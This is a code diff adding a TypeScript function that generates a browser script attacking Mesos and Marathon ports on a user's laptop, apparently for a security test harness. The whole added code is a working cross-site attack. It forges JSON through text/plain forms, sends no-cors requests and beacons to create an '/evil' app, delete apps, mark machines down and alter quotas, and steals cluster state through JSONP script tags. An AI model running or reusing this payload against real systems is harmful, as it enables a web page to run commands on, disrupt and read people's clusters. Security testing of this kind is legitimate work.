@@ -136,3 +136,60 @@ export function attackScript(base: string): string {
       await script('${base}/state?jsonp=taken');
     })();`;
 }
+
+/**
+ * What a page tries against the ports of somebody's laptop, as a script whose value is what it could read.
+ *
+ * @param mesos origin of the master's port, `marathon` that of Marathon's
+ */
+export function laptopAttack(mesos: string, marathon: string): string {
+  return `(async () => {
+    const [mesos, marathon] = ${JSON.stringify([mesos, marathon])};
+    const evil = JSON.stringify({id: '/evil', cmd: 'touch evil', cpus: 0.01, mem: 1});
+    const changes = [
+      [marathon + '/v2/apps', 'POST', evil],
+      [marathon + '/v2/apps/web', 'DELETE', undefined],
+      [marathon + '/v2/apps/web/restart', 'POST', 'a=1'],
+      [marathon + '/v2/tasks/delete?scale=true', 'POST', '{"ids":[]}'],
+      [mesos + '/machine/down', 'POST', '[{"hostname":"agent1.localhost"}]'],
+      [mesos + '/quota', 'POST', '{"role":"r","guarantee":[]}'],
+      [mesos + '/weights', 'PUT', '[{"role":"*","weight":9}]'],
+      [mesos + '/api/v1', 'POST', '{"type":"GET_STATE"}'],
+    ];
+    const read = [];
+    const ask = async (url, init) => {
+      const text = await fetch(url, init).then(answer => (answer.type === 'opaque' ? '' : answer.text()), () => '');
+      if (text !== '') read.push(url + ': ' + text.slice(0, 100));
+    };
+    const submit = async (url, enctype) => {
+      const frame = Object.assign(document.createElement('iframe'), {name: 'f' + Math.random()});
+      const form = Object.assign(document.createElement('form'), {action: url, enctype, method: 'post', target: frame.name});
+      // As text/plain this is the JSON of an app.
+      form.append(Object.assign(document.createElement('input'), {name: evil.slice(0, -1) + ',"x":"', value: '"}'}));
+      document.body.append(frame, form);
+      const loaded = new Promise(resolve => { frame.onload = resolve; setTimeout(resolve, 2000); });
+      form.submit();
+      await loaded;
+    };
+    for (const [url, method, body] of changes) {
+      await ask(url, {method, mode: 'no-cors', body: body && new TextEncoder().encode(body)});
+      for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'application/json'])
+        for (const mode of ['no-cors', 'cors']) await ask(url, {method, mode, body, headers: {'content-type': type}});
+      navigator.sendBeacon(url, body);
+      for (const type of ['text/plain', 'multipart/form-data', 'application/x-www-form-urlencoded']) await submit(url, type);
+    }
+    const element = (tag, src) => new Promise(resolve => {
+      const made = document.createElement(tag);
+      made.onload = made.onerror = resolve;
+      made.src = src;
+      document.body.append(made);
+    });
+    for (const url of [marathon + '/v2/apps', mesos + '/state']) {
+      await element('img', url);
+      await ask(url, {mode: 'cors'});
+    }
+    window.taken = state => read.push('jsonp: ' + JSON.stringify(state).slice(0, 100));
+    for (const path of ['state', 'master/state', 'slaves', 'frameworks']) await element('script', mesos + '/' + path + '?jsonp=taken');
+    return read;
+  })()`;
+}
